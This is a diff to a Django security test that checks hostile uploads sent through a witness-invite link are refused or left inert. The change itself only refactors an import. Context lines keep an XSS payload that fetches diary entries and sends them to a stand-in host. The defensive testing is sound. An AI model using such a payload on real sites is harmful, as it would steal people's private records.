@@ -10,8 +10,8 @@ from django.urls import reverse
 from diary.models import Evidence
 from tests.factories import jpeg_bytes, upload
 from tests.security.conftest import HER_PHONE, body, browser
-from witnesses import services
 from witnesses.models import Submission, SubmissionFile
+from witnesses.services.links import witness_invite
 
 SCRIPT = b"<script>fetch('/api/entries/').then(r=>r.text()).then(t=>location='//x/?'+t)</script>"
 HOSTILE = {
@@ -45,9 +45,7 @@ def assert_inert(response, *, download: bool) -> None:
 
 @pytest.mark.parametrize("name", sorted(HOSTILE))
 def test_what_he_sends_through_a_link_is_refused_or_inert(owner, settings, name):
-    _, token = services.witness_invite(
-        diary=owner.diary, actor=owner, name="Pat", relationship="neighbour"
-    )
+    _, token = witness_invite(diary=owner.diary, actor=owner, name="Pat", relationship="neighbour")
     him = browser()
     him.get(f"/w/{token}")
     files_before = stored(settings)
